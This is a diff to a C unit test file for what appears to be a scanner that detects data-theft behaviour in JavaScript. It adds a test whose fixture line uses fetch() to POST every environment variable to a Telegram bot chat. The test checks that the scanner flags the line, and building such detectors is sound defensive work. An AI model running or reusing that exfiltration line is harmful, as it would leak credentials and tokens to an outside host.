@@ -182,6 +182,22 @@ static void many(const char *line, unsigned n, const char *last)
 	buf_printf(&source, "%s\n", last);
 }
 
+/* Questions of one kind about one text: who names the chat that each message is sent to. One too many takes the strict answer. */
+static void test_questions(void **state)
+{
+	static const char line[] = "fetch(`https://api.telegram.org/bot${process.env.KEY}/sendMessage?chat_id=1`, "
+				   "{method: 'POST', body: JSON.stringify(process.env)})";
+
+	(void)state;
+	for (unsigned more = 0; more < 2; more++) {
+		begin();
+		many(line, CONTENT_QUESTIONS + more, "");
+		assert_int_equal(scanned("a.js"), 0);
+		assert_true(acts_of(BEHAVE_SEND, 0) >= CONTENT_QUESTIONS + more);
+		assert_int_equal(acts_of(BEHAVE_SEND, ACT_COLLECTOR_HOST) > 0, more);
+	}
+}
+
 static void test_words(void **state)
 {
 	struct word_place place = {&source, in_code};
@@ -698,7 +714,7 @@ int main(void)
 		cmocka_unit_test(test_state_files), cmocka_unit_test(test_key_question), cmocka_unit_test(test_user_asks),
 		cmocka_unit_test(test_acts),	   cmocka_unit_test(test_act_texts),
 		cmocka_unit_test(test_layers),	   cmocka_unit_test(test_coded_word),
-		cmocka_unit_test(test_words),	   cmocka_unit_test(test_scripts),
+		cmocka_unit_test(test_questions), cmocka_unit_test(test_words),	   cmocka_unit_test(test_scripts),
 		cmocka_unit_test(test_surfaces),
 		cmocka_unit_test(test_commands),   cmocka_unit_test(test_comments),
 		cmocka_unit_test(test_remembered),
